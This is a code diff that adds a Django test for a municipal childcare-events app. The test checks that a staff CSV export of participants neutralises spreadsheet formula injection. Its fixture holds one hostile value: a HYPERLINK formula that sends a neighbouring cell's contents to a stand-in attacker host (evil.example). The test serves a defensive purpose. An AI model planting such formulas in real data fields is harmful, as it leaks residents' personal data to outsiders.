@@ -147,6 +147,26 @@ def test_participants_list_csv_attendance_message(client, municipal_staff, make_
     assert list(messages.values_list("user", flat=True)) == [first.pk]  # only those with a place
 
 
+def test_participants_csv_cannot_carry_a_formula(client, municipal_staff, make_family):
+    """A resident's allergies typed as a formula reach staff's spreadsheet as text (issue 10.5)."""
+    import csv as csv_module
+    import io
+
+    from kosodate.accounts.models import Child
+
+    event = EventFactory(capacity=5)
+    family = make_family()
+    formula = '=HYPERLINK("https://evil.example/?d="&C2,"詳細")'
+    Child.objects.filter(household=family.household).update(allergies=formula)
+    _apply(client, family, event)
+    client.force_login(municipal_staff)
+    response = client.get(reverse("events_staff:participants_csv", args=[event.pk]))
+    rows = list(csv_module.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    allergies = [row[8] for row in rows[1:]]
+    assert allergies == ["'" + formula]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
 def test_staff_list_query_count_does_not_grow(client, municipal_staff, make_family):
     from django.db import connection
     from django.test.utils import CaptureQueriesContext
